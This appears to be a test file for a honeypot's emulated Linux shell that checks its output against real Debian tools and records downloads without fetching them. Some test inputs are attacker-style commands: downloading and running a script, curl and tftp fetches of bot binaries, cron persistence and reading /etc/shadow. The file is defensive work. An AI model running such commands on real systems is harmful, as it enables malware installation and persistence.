import { spawnSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { createMachine, outputText, type ShellIdentity } from '../../../../../agent/services/shell/fake-shell';

/**
 * Output formats of the emulated commands against the real tools on this (Debian) machine: the
 * same headers, the same column alignment, the same error wording. Values differ per machine, so
 * only layout and wording are compared.
 */
const id: ShellIdentity = {
  user: 'root',
  hostname: 'web-01',
  kernel: '6.1.0-26-amd64',
  distro: 'debian',
  users: ['root', 'deploy'],
  ip: '10.1.2.3',
  seed: 'cmds',
};

function session(mode: 'exec' | 'shell' = 'exec', who = id) {
  const s = createMachine(who).open(mode);
  return (line: string) => {
    const out = s.run(line);
    return {
      text: outputText(out),
      code: out.code,
      stderr: out.chunks
        .filter((c) => c.fd === 2)
        .map((c) => c.text)
        .join(''),
    };
  };
}
/** One line through a fresh emulated session (nothing is executed; `real()` runs the real tool). */
const emulate = (line: string) => session()(line);

/** The real tool's output (stdout and stderr), C.UTF-8 like a stock login. */
function real(script: string): string {
  const r = spawnSync('bash', ['-c', script], {
    encoding: 'utf8',
    env: { ...process.env, LANG: 'C.UTF-8', LC_ALL: 'C.UTF-8' },
    cwd: '/tmp',
  });
  return (r.stdout + r.stderr).replace(/\n$/, '');
}

/** Right edges of the header's words: numeric columns of every row must end exactly there. */
function rightEdges(header: string): number[] {
  return [...header.matchAll(/\S+/g)].map((m) => m.index + m[0].length);
}
function alignedRight(table: string, cols: number[]): boolean {
  const [head, ...rows] = table.split('\n');
  const edges = rightEdges(head!);
  return rows.every((r) =>
    cols.every((c) => r[edges[c]! - 1] !== ' ' && (r[edges[c]!] === ' ' || r[edges[c]!] === undefined)),
  );
}

describe('emulated commands match the real tools', () => {
  it('uname -a has coreutils field order; -r/-m/-n/-s pick fields', () => {
    const shape = /^Linux \S+ \S+ #\S+ .* x86_64 GNU\/Linux$/;
    expect(real('uname -a')).toMatch(shape);
    expect(emulate('uname -a').text).toMatch(shape);
    expect(emulate('uname -a').text).toContain('Linux web-01 6.1.0-26-amd64 #1 SMP PREEMPT_DYNAMIC Debian');
    expect(emulate('uname -r; uname -m; uname -n; uname -s; uname').text).toBe(
      '6.1.0-26-amd64\nx86_64\nweb-01\nLinux\nLinux',
    );
    expect(emulate('uname -z').text).toBe(real('uname -z'));
  });

  it('free -m and free -h: the procps header and column edges', () => {
    for (const flag of ['-m', '-h', '']) {
      const mine = emulate(`free ${flag}`).text;
      const theirs = real(`free ${flag}`);
      expect(mine.split('\n')[0]).toBe(theirs.split('\n')[0]);
      expect(alignedRight(theirs, [0, 1, 2])).toBe(true);
      expect(alignedRight(mine, [0, 1, 2])).toBe(true);
      expect(mine.split('\n').map((l) => l.split(/\s+/)[0])).toEqual(['', 'Mem:', 'Swap:']);
    }
  });

  it('df -h and df: coreutils header words and right-aligned numbers', () => {
    for (const flag of ['-h', '']) {
      const mine = emulate(`df ${flag}`).text;
      const theirs = real(`df ${flag}`);
      expect(mine.split('\n')[0]!.split(/\s+/)).toEqual(theirs.split('\n')[0]!.split(/\s+/));
      expect(alignedRight(mine, [1, 2, 3, 4])).toBe(true);
      expect(alignedRight(theirs, [1, 2, 3, 4])).toBe(true);
    }
  });

  it('ls -la lines have GNU ls -l fields, a total line and . / ..', () => {
    const line = /^[d-][rwx-]{8}[rwxtT-] +\d+ \S+ +\S+ +\d+ [A-Z][a-z]{2} [ \d]\d ( \d{4}|\d\d:\d\d) \S.*$/;
    const theirs = real('ls -la /etc/skel').split('\n');
    const mine = emulate('ls -la').text.split('\n');
    for (const out of [theirs, mine]) {
      expect(out[0]).toMatch(/^total \d+$/);
      expect(out.slice(1).every((l) => line.test(l))).toBe(true);
      expect(out.slice(1, 3).map((l) => l.split(' ').pop())).toEqual(['.', '..']);
    }
    expect(mine.map((l) => l.split(' ').pop())).toEqual(
      expect.arrayContaining(['.bashrc', '.bash_history', '.profile']),
    );
    // Sizes right-aligned in one column, as ls pads them.
    const sizeEnds = mine.slice(1).map((l) => /^\S+ +\d+ \S+ +\S+ +\d+/.exec(l)![0].length);
    expect(new Set(sizeEnds).size).toBe(1);
  });

  it('ls on a pty lays names out in columns; into a pipe, a file or without a pty, one per line', () => {
    const pty = session('shell');
    expect(pty('ls /').text.split('\n')).toHaveLength(2);
    expect(pty('ls / | head -2').text).toBe('bin\nboot');
    expect(pty('ls / > /tmp/l; wc -l < /tmp/l').text).toBe('20');
    // usrmerge: /bin is a link into /usr, as `ls -l` on Debian 12 shows it.
    expect(pty('ls -la /').text).toMatch(/\nlrwxrwxrwx +1 root root +7 \w{3} [ \d]\d +[\d:]+ bin -> usr\/bin\n/);
    expect(pty('cat /proc/1/comm /proc/1/cgroup; ls /.dockerenv').text).toBe(
      "systemd\n0::/init.scope\nls: cannot access '/.dockerenv': No such file or directory",
    );
    expect(emulate('ls /').text.split('\n').length).toBeGreaterThan(15);
  });

  it('ps aux, ps -ef and top -bn1 use the procps headers', () => {
    const words = (s: string) => s.split('\n')[0]!.trim().split(/\s+/);
    expect(words(emulate('ps aux').text)).toEqual(words(real('ps aux')));
    expect(words(emulate('ps -ef').text)).toEqual(words(real('ps -ef')));
    expect(alignedRight(emulate('ps aux').text, [1, 2, 3, 4, 5])).toBe(true);
    expect(alignedRight(emulate('ps -ef').text, [1, 2])).toBe(true);
    const top = emulate('top -bn1').text.split('\n');
    const realTop = real('top -bn1').split('\n');
    expect(top[0]).toMatch(/^top - \d\d:\d\d:\d\d up .*, +\d+ users?, +load average: [\d.]+, [\d.]+, [\d.]+$/);
    expect(top[6]!.trim().split(/\s+/)).toEqual(realTop[6]!.trim().split(/\s+/));
    expect(top[1]!.replace(/\d+/g, 'N').replace(/ +/g, ' ')).toBe(realTop[1]!.replace(/\d+/g, 'N').replace(/ +/g, ' '));
    expect(top[3]!.replace(/[\d.]+/g, 'N').replace(/ +/g, ' ')).toBe(
      realTop[3]!.replace(/[\d.]+/g, 'N').replace(/ +/g, ' '),
    );
  });

  it('uptime and w print the procps line', () => {
    // procps pads the hours to two columns (" up  1:27," on a machine up less than 10 h).
    const shape =
      /^ \d\d:\d\d:\d\d up +(\d+ days?, +)?(\d+:\d\d|\d+ min), +\d+ users?, +load average: [\d.]+, [\d.]+, [\d.]+$/;
    expect(real('uptime')).toMatch(shape);
    expect(emulate('uptime').text).toMatch(shape);
    expect(emulate('w').text.split('\n')[1]).toBe(real('w').split('\n')[1]);
  });

  it('error messages are coreutils and bash wording, word for word', () => {
    const cases = [
      'cat /nonexist',
      'ls /nonexist',
      'rm /nonexist',
      'mkdir /tmp',
      'chmod x /nonexist',
      'head -n',
      'cat /etc',
      'rmdir /nonexist',
      'touch /nonexist/x',
      'cp /nonexist /tmp/',
      'mv a',
      'cp',
      'id nobodyx',
      'sleep x',
      'cd /nonexist',
      'nosuchcommand',
      'kill 999999',
      './nonexist',
      'export 1a',
      'type nosuch',
      'printf',
      '[ 1 -lt x ]',
      '[ -q a ]',
      '[ a',
      'seq 3',
      'seq 2 2 6',
      'seq x',
      '[ -f /etc/passwd ] && echo yes',
      'test -d /nonexist || echo no',
    ];
    for (const c of cases) expect([c, emulate(c).text]).toEqual([c, real(c)]);
    expect(emulate('nosuchcommand').code).toBe(127);
    expect(session('shell')('nosuchcommand').text).toBe('-bash: nosuchcommand: command not found');
  });

  it('id, whoami, hostname, groups follow the logged-in user', () => {
    expect(emulate('id; whoami; hostname').text).toBe('uid=0(root) gid=0(root) groups=0(root)\nroot\nweb-01');
    const dep = session('exec', { ...id, user: 'deploy' });
    expect(dep('id').text).toMatch(/^uid=1000\(deploy\) gid=1000\(deploy\) groups=1000\(deploy\),/);
    expect(dep('cat /etc/shadow').text).toBe('cat: /etc/shadow: Permission denied');
    expect(dep('touch /etc/x').text).toBe("touch: cannot touch '/etc/x': Permission denied");
    expect(dep('sudo id').text).toContain('sudo: a password is required');
  });

  it('${VAR:-word} and friends expand as bash does', () => {
    const line =
      'echo ${X:-def} ${#HOME} ${HOME:+set} ${Y=new} $Y; X=; echo "[${X-unset}]" "[${X:-empty}]" "[${Z+alt}]"';
    expect(emulate(line).text).toBe(real(line.replace(/\$\{#HOME\}/, '5')));
    expect(session('shell')('top').text.split('\n')[0]).toMatch(/^top - \d\d:\d\d:\d\d up /);
    expect(emulate('top').text).toBe('top: failed tty get');
  });

  it('bash --version and $BASH_VERSION match the real bash of the same distro', () => {
    // This machine is Debian 12, as the default persona.
    expect(emulate('bash --version | head -1').text).toBe(real('bash --version | head -1'));
    expect(emulate('echo $BASH_VERSION').text).toBe(real('echo $BASH_VERSION'));
  });

  it('/proc, lscpu, nproc, free and uname tell one consistent story', () => {
    const s = session();
    const cpus = Number(s('nproc').text);
    expect(s('grep -c ^processor /proc/cpuinfo').text).toBe(String(cpus));
    expect(s('lscpu | grep "^CPU(s):"').text).toMatch(new RegExp(`^CPU\\(s\\): +${cpus}$`));
    const memKb = Number(/MemTotal: +(\d+) kB/.exec(s('cat /proc/meminfo').text)![1]);
    expect(Number(s('free').text.split('\n')[1]!.split(/\s+/)[1])).toBe(memKb);
    expect(s('cat /proc/version').text).toContain('Linux version 6.1.0-26-amd64 ');
    expect(s('cat /etc/hostname').text).toBe('web-01');
    expect(s('cat /etc/os-release | head -1').text).toBe('PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"');
    expect(s('grep deploy /etc/passwd').text).toBe('deploy:x:1000:1000:deploy,,,:/home/deploy:/bin/bash');
    // lscpu's label column is as wide as util-linux's.
    expect(s('lscpu').text.split('\n')[0]!.indexOf('x86_64')).toBe(real('lscpu').split('\n')[0]!.indexOf('x86_64'));
  });

  it('other distros answer with their own files', () => {
    const rocky = session('exec', { ...id, distro: 'rocky9', kernel: '5.14.0-427.33.1.el9_4.x86_64' });
    expect(rocky('cat /etc/redhat-release').text).toBe('Rocky Linux release 9.4 (Blue Onyx)');
    expect(rocky('apt-get install x').text).toBe('bash: line 1: apt-get: command not found');
    expect(rocky('uname -a').text).toMatch(/x86_64 x86_64 x86_64 GNU\/Linux$/);
    expect(rocky('python3 -V; which python3').text).toBe('Python 3.9.18\n/usr/bin/python3');
    const alpine = session('exec', { ...id, distro: 'alpine', kernel: '6.6.58-0-lts' });
    expect(alpine('python3 -V; which python3; echo $?').text).toBe('bash: line 1: python3: command not found\n1');
    const ubuntu = session('exec', { ...id, distro: 'ubuntu22', kernel: '5.15.0-119-generic' });
    expect(ubuntu('apt-get update').text).toContain("Temporary failure resolving 'archive.ubuntu.com'");
  });

  it('wget prints a transfer, creates the file, and records the URL without fetching', () => {
    const s = createMachine(id).open('exec');
    const out = s.run('cd /tmp && wget http://127.0.0.1:9/x.sh && ls -l x.sh');
    const text = outputText(out);
    expect(text).toMatch(
      /^--\d{4}-\d\d-\d\d \d\d:\d\d:\d\d-- {2}http:\/\/127\.0\.0\.1:9\/x\.sh\nConnecting to 127\.0\.0\.1:9\.\.\. connected\.\nHTTP request sent, awaiting response\.\.\. 200 OK\nLength: \d+ /,
    );
    expect(text).toMatch(/‘x\.sh’ saved \[(\d+)\/\1\]/);
    expect(text).toMatch(/\n-rw-r--r-- 1 root root 4096 \w{3} [ \d]\d \d\d:\d\d x\.sh$/);
    expect(out.downloads).toEqual([{ tool: 'wget', url: 'http://127.0.0.1:9/x.sh', path: '/tmp/x.sh' }]);
    expect(outputText(s.run('./x.sh; echo $?'))).toBe('bash: line 1: ./x.sh: Permission denied\n126');
    expect(outputText(s.run('chmod +x x.sh; ./x.sh; echo $?'))).toBe('0');
    expect(s.run('curl -o /tmp/b http://e.test/bot; tftp -g -r m.arm 10.0.0.9').downloads.map((d) => d.url)).toEqual([
      'http://e.test/bot',
      'tftp://10.0.0.9/m.arm',
    ]);
  });

  it('crontab -l/-r and installing from stdin', () => {
    const s = session();
    expect(s('crontab -l')).toMatchObject({ text: 'no crontab for root', code: 1 });
    expect(s('echo "*/5 * * * * /tmp/x.sh" | crontab - && crontab -l').text).toBe('*/5 * * * * /tmp/x.sh');
    // The usual persistence idiom: keep the old table, append a line, in a subshell.
    expect(s('(crontab -l 2>/dev/null; echo "@reboot /tmp/y") | crontab -; crontab -l').text).toBe(
      '*/5 * * * * /tmp/x.sh\n@reboot /tmp/y',
    );
    expect(s('echo "bad" | crontab -').text).toBe(`"-":1: bad minute\nerrors in crontab file, can't install.`);
    expect(s('crontab -r; crontab -l').text).toBe('no crontab for root');
  });

  it('history numbers lines like bash; exit ends the session', () => {
    const s = createMachine(id).open('shell');
    s.run('whoami');
    s.run('pwd');
    expect(outputText(s.run('history'))).toBe('    1  whoami\n    2  pwd\n    3  history');
    expect(s.run('exit 3')).toMatchObject({ exit: true, code: 3 });
  });

  it('busybox runs its applets; interpreters and package managers answer plausibly', () => {
    expect(emulate('busybox echo hi').text).toBe('hi');
    expect(emulate('busybox nosuch').text).toBe('nosuch: applet not found');
    expect(emulate('python -V').text).toBe('bash: line 1: python: command not found');
    expect(emulate('python3 -V').text).toBe('Python 3.11.2');
    expect(emulate('apt-get install -y nmap').text).toContain('E: Unable to locate package nmap');
    expect(emulate('sh -c "echo nested; exit 4"; echo $?').text).toBe('nested\n4');
  });

  it('awk, sed, tee, cut and tr in the recon one-liners give the real tools’ answers', () => {
    const s = session();
    s('printf "a b c\\nd e f\\n" > /tmp/t; printf "x:1:2\\ny:3:4\\n" > /tmp/p');
    const same = (mine: string, theirs: string) => expect([mine, s(mine).text]).toEqual([mine, real(theirs)]);
    real('printf "a b c\\nd e f\\n" > /tmp/decnet-t; printf "x:1:2\\ny:3:4\\n" > /tmp/decnet-p');
    same("awk '{print $2,$3}' /tmp/t", "awk '{print $2,$3}' /tmp/decnet-t");
    same("awk -F: '{print $1}' /tmp/p", "awk -F: '{print $1}' /tmp/decnet-p");
    same("awk 'NR==2' /tmp/t", "awk 'NR==2' /tmp/decnet-t");
    same("sed 's/a/A/g' /tmp/t", "sed 's/a/A/g' /tmp/decnet-t");
    same("sed -n '/d/p' /tmp/t", "sed -n '/d/p' /tmp/decnet-t");
    same('cut -d: -f2 /tmp/p', 'cut -d: -f2 /tmp/decnet-p');
    same('echo hello | tr a-z A-Z', 'echo hello | tr a-z A-Z');
    same('echo hi | tee /tmp/tee-out', 'echo hi | tee /tmp/decnet-tee-out');
    same('yes | head -3', 'yes | head -3');
    same('tar xf /nonexist.tar', 'tar xf /nonexist.tar');
    // sed's usage is followed by its whole --help; the first line is what scripts see.
    expect(s('sed').text.split('\n')[0]).toBe(real('sed').split('\n')[0]);
    expect(s('cat /tmp/tee-out').text).toBe('hi');
    const model = s("cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'").text;
    expect(s('grep -m1 "model name" /proc/cpuinfo').text).toContain(model);
  });

  it('dd reports records like coreutils; outbound clients never connect', () => {
    const s = session();
    const dd = s('dd if=/dev/zero of=/tmp/z bs=1k count=4').text.split('\n');
    const theirs = real('dd if=/dev/zero of=/tmp/decnet-z bs=1k count=4').split('\n');
    expect(dd.slice(0, 2)).toEqual(theirs.slice(0, 2));
    expect(dd[2]).toMatch(/^4096 bytes \(4\.1 kB, 4\.0 KiB\) copied, [\d.]+ s, [\d.]+ [kMG]B\/s$|^4096 bytes copied/);
    expect(s('nc -v 203.0.113.1 80').text).toBe('nc: connect to 203.0.113.1 port 80 (tcp) failed: Connection refused');
    expect(s('ssh root@203.0.113.1; echo $?').text).toBe(
      'ssh: connect to host 203.0.113.1 port 22: Connection refused\n255',
    );
  });
});
